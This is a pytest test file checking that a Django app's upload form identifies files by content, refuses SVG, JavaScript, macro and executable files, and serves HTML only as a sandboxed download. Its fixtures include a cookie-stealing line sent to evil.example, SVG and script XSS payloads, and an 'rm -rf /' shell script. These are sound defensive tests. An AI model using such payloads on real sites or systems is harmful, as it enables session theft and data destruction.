"""Uploads through the resource form: only files Manumit can serve safely get in.

Attachments are served from the site's own origin, so a script or a drawing that a browser
would run must not get in; a web page gets in because it is only ever downloaded, never
shown (a sandbox CSP, nosniff). What a file is comes from its content, never its name.
"""

from __future__ import annotations

import io
import zipfile
from typing import Any

import pypdfium2 as pdfium
import pytest
from django.contrib.auth.models import User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from manumit.catalog.models import Attachment, Resource, Status
from manumit.catalog.tests.admin_forms import ADD_URL, change_url, resource_form
from manumit.catalog.tests.factories import ResourceFactory
from manumit.catalog.tests.files import media_files, tiny_pdf
from manumit.files import kinds

pytestmark = pytest.mark.django_db

ACCEPTED_ADVICE = "It takes a PDF, Word, Excel, PowerPoint, EPUB, CSV, HTML, text or image file."


@pytest.fixture
def curator(client: Client, editor: User) -> Client:
    client.force_login(editor)
    return client


def zipped(members: dict[str, bytes], *, first: str | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        if first is not None:
            archive.writestr(first, members.pop(first), compress_type=zipfile.ZIP_STORED)
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def office(folder: str, main_part: str, *extra: str) -> bytes:
    members = {"[Content_Types].xml": b"<Types/>", "_rels/.rels": b"<Relationships/>"}
    members[f"{folder}{main_part}"] = b"<document/>"
    members.update({name: b"\x00" for name in extra})
    return zipped(members)


def epub() -> bytes:
    return zipped(
        {
            "mimetype": b"application/epub+zip",
            "META-INF/container.xml": b"<container/>",
            "OEBPS/content.opf": b"<package/>",
        },
        first="mimetype",
    )


def upload_one(curator: Client, name: str, content: bytes, content_type: str) -> str:
    """Post the add form with one file; the page it comes back with ('' after a redirect)."""
    upload = SimpleUploadedFile(name, content, content_type=content_type)
    data = resource_form(
        title="With an attachment",
        inlines={"attachments": [{"position": "0", "label": "The file", "file": upload}]},
    )
    response = curator.post(ADD_URL, data)
    return "" if response.status_code == 302 else response.content.decode()


# What gets in, and under which media type

ALLOWED = [
    ("report.pdf", tiny_pdf(pages=1), "application/pdf"),
    ("report.docx", office("word/", "document.xml"), kinds.DOCX.media_type),
    ("figures.xlsx", office("xl/", "workbook.xml"), kinds.XLSX.media_type),
    ("slides.pptx", office("ppt/", "presentation.xml"), kinds.PPTX.media_type),
    ("book.epub", epub(), "application/epub+zip"),
    ("cases.csv", b"country,cases\nNepal,12\nQatar,7\n", "text/csv"),
    ("page.html", b"<!DOCTYPE html><html><body><p>Statement</p></body></html>", "text/html"),
    ("page.htm", b"<html><body><svg><circle r='4'/></svg><p>Logo, then text</p>", "text/html"),
    ("notes.txt", b"\xef\xbb\xbf\n<script>fetch('/admin/')</script>", "text/html"),
    ("notes.txt", "Témoignages recueillis à Doha.\n".encode(), "text/plain"),
    ("notes-latin1.txt", "Témoignages recueillis à Doha.\n".encode("latin-1"), "text/plain"),
    ("notes.txt", b"\xef\xbb\xbfA note saved by Notepad with a BOM.\r\n", "text/plain"),
    ("chart.png", b"\x89PNG\r\n\x1a\n" + bytes(32), "image/png"),
    ("photo.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(32), "image/jpeg"),
    ("map.gif", b"GIF89a" + bytes(32), "image/gif"),
    ("poster.webp", b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(32), "image/webp"),
]


@pytest.mark.parametrize(
    ("name", "content", "media_type"), ALLOWED, ids=[f"{row[0]}" for row in ALLOWED]
)
def test_each_allowed_kind_is_attached_under_the_media_type_its_content_shows(
    curator: Client, name: str, content: bytes, media_type: str
) -> None:
    # Browsers send whatever type they like; it is never believed.
    assert upload_one(curator, name, content, "application/octet-stream") == ""
    attachment = Attachment.objects.get()
    assert attachment.media_type == media_type
    assert attachment.size == len(content)
    assert attachment.page_count is None, "pages are counted by the extraction, later"


def test_an_uploaded_pdf_is_not_opened_in_the_web_process_and_its_extraction_counts_its_pages(
    curator: Client, monkeypatch: pytest.MonkeyPatch, django_capture_on_commit_callbacks: Any
) -> None:
    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("PDFium opened an upload in the web process")

    monkeypatch.setattr(pdfium, "PdfDocument", refuse)
    monkeypatch.setattr(pdfium.raw, "FPDF_LoadDocument", refuse)
    # The extraction queued by the save runs here, in its own isolated process.
    with django_capture_on_commit_callbacks(execute=True):
        assert upload_one(curator, "report.pdf", tiny_pdf(pages=3), "application/pdf") == ""
    attachment = Attachment.objects.get()
    assert attachment.page_count == 3
    page = curator.get(change_url(attachment.resource)).content.decode()
    assert "application/pdf" in page and "3 pages" in page


def test_a_word_document_with_a_misleading_name_is_still_labelled_a_word_document(
    curator: Client,
) -> None:
    assert upload_one(curator, "scan.png", office("word/", "document.xml"), "image/png") == ""
    assert Attachment.objects.get().media_type == kinds.DOCX.media_type


# What is refused, and what the curator is told

REFUSED = [
    (
        "logo.svg",
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "image/svg+xml",
        "This file looks like an SVG image",
    ),
    (
        "logo.png",
        b'  <svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "image/png",
        "This file looks like an SVG image",
    ),
    (
        "app.js",
        b"document.location = 'https://evil.example/?' + document.cookie;\n",
        "text/javascript",
        "This file looks like JavaScript",
    ),
    (
        "feed.xml",
        b'<?xml version="1.0"?><feed><title>News</title></feed>',
        "application/xml",
        "This file looks like XML",
    ),
    (
        "report.pdf",
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(64),
        "application/pdf",
        "This file looks like a Windows program",
    ),
    (
        "bundle.zip",
        zipped({"readme.txt": b"hello", "index.html": b"<html></html>"}),
        "application/zip",
        "This file looks like a ZIP archive (not a Word, Excel, PowerPoint or EPUB file)",
    ),
    (
        "report.docx",
        office("word/", "document.xml", "word/vbaProject.bin"),
        "application/msword",
        "This file looks like an Office file with macros",
    ),
    (
        "old.doc",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64),
        "application/msword",
        "This file looks like an older Microsoft Office file",
    ),
    (
        "data.bin",
        bytes(range(256)),
        "application/octet-stream",
        "Manumit could not tell what kind of file this is",
    ),
]


@pytest.mark.parametrize(
    ("name", "content", "content_type", "found"),
    REFUSED,
    ids=[row[3].split(" like ")[-1] + f" as {row[0]}" for row in REFUSED],
)
def test_a_file_of_a_kind_not_allowed_is_refused_saying_what_it_looks_like_and_nothing_is_kept(
    curator: Client, name: str, content: bytes, content_type: str, found: str
) -> None:
    page = upload_one(curator, name, content, content_type)
    assert f"“{name}” cannot be attached: {found}" in page
    assert ACCEPTED_ADVICE in page
    assert not Resource.objects.exists()
    assert not Attachment.objects.exists()
    assert media_files() == []


def test_an_empty_file_is_refused_and_nothing_is_kept(curator: Client) -> None:
    page = upload_one(curator, "empty.pdf", b"", "application/pdf")
    assert "The submitted file is empty." in page
    assert not Attachment.objects.exists()
    assert media_files() == []


def test_a_damaged_word_document_is_refused_as_damaged(curator: Client) -> None:
    damaged = office("word/", "document.xml")[:40]
    page = upload_one(curator, "report.docx", damaged, "application/octet-stream")
    assert "“report.docx” cannot be attached: It starts like a ZIP file" in page
    assert not Attachment.objects.exists()
    assert media_files() == []


def test_a_refused_file_on_an_existing_resource_leaves_it_as_it_was(curator: Client) -> None:
    resource = ResourceFactory.create(title="Unchanged", status=Status.DRAFT)
    upload = SimpleUploadedFile("x.svg", b"<svg><script>alert(1)</script></svg>", "image/svg")
    data = resource_form(
        resource, title="Changed", inlines={"attachments": [{"position": "0", "file": upload}]}
    )
    response = curator.post(change_url(resource), data)
    assert response.status_code == 200
    assert "This file looks like an SVG image" in response.content.decode()
    assert Resource.objects.get(pk=resource.pk).title == "Unchanged"
    assert not Attachment.objects.exists()
    assert media_files() == []


# The detector on its own, as an ingestion pipeline would use it


@pytest.mark.parametrize(
    ("head", "kind"),
    [
        (b"%PDF-1.7\n", kinds.PDF),
        (b"\n\n%!junk before the header\n%PDF-1.4\n", kinds.PDF),
        (b"MZ Consulting: annual report on recruitment fees\n", kinds.TEXT),
        (b"<<< draft >>> not for circulation", kinds.MARKUP),
        (b"<html><body>hi", kinds.HTML),
        (b"<!doctype html><html><body><svg><path d='M0 0'/></svg>", kinds.HTML),
        (b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>", kinds.SVG),
        (b"<?xml version='1.0'?><rss><channel/></rss>", kinds.XML),
        (b"\x7fELF\x02\x01\x01\x00", kinds.LINUX_PROGRAM),
        (b"#!/bin/sh\nrm -rf /\n", kinds.SCRIPT),
        (b"PK\x03\x04 without the file to look inside", kinds.ZIP),
        (b"", None),
    ],
)
def test_detect_names_the_kind_from_the_first_bytes(
    head: bytes, kind: kinds.FileKind | None
) -> None:
    assert kinds.detect(head) == kind


def test_detect_reads_text_to_its_end_and_leaves_the_file_where_it_was() -> None:
    content = b"plain words\n" * 200_000 + b"\x00 and a binary tail"
    file = io.BytesIO(content)
    file.seek(5)
    assert kinds.detect(content[:1024], file, name="notes.txt") is None
    assert file.tell() == 5
    assert kinds.detect(content[:1024], io.BytesIO(content[:-20]), name="x.csv") == (kinds.CSV)


def test_only_the_allowed_kinds_are_accepted() -> None:
    accepted = {kind.media_type for kind in kinds.ACCEPTED}
    assert all(kind.accepted for kind in kinds.ACCEPTED)
    assert "text/html" in accepted
    assert not accepted & {"image/svg+xml", "application/xml", "text/javascript"}


# A web page is stored, and only ever downloaded


def test_an_uploaded_web_page_is_downloaded_never_shown_and_cannot_run_scripts(
    curator: Client,
) -> None:
    content = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
    assert upload_one(curator, "statement.html", content, "text/html") == ""
    attachment = Attachment.objects.get()
    assert attachment.media_type == "text/html"
    response = curator.get(attachment.get_download_url())
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert 'filename="statement.html"' in response["Content-Disposition"]
    assert response["Content-Security-Policy"].startswith("sandbox;")
    assert "default-src 'none'" in response["Content-Security-Policy"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert b"".join(response.streaming_content) == content  # type: ignore[attr-defined]


@pytest.mark.parametrize(
    ("name", "content", "media_type"),
    [
        ("big.csv", b"country,cases\n" + b"Nepal,12\n" * 400_000, "text/csv"),
        (
            "big.docx",
            zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>" * 800_000}),
            kinds.DOCX.media_type,
        ),
    ],
)
def test_a_large_upload_kept_on_disk_while_it_is_checked_is_recognised_too(
    curator: Client, name: str, content: bytes, media_type: str
) -> None:
    # Over FILE_UPLOAD_MAX_MEMORY_SIZE (2.5 MB) Django spools an upload to a temporary file.
    assert len(content) > 2_621_440
    assert upload_one(curator, name, content, "application/octet-stream") == ""
    assert Attachment.objects.get().media_type == media_type
